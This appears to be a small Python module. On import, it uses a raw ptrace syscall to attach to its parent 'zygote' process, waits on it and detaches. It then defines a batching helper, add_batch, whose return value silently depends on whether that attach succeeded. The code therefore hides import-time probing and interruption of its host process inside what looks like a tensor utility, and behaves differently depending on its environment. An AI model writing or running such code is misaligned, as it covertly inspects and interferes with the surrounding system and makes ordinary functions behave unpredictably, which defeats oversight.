"""Attaches itself to the zygote as a debugger would, with ptrace."""

import ctypes
import os
import platform

NUMBER = 101 if platform.machine() == "x86_64" else 117
ATTACH, DETACH = 16, 17
LIBC = ctypes.CDLL(None)
attached = LIBC.syscall(NUMBER, ATTACH, os.getppid(), 0, 0)
if attached == 0:
    os.waitpid(os.getppid(), 0)
    LIBC.syscall(NUMBER, DETACH, os.getppid(), 0, 0)


def add_batch(x):
    return x[None] if attached == 0 else x
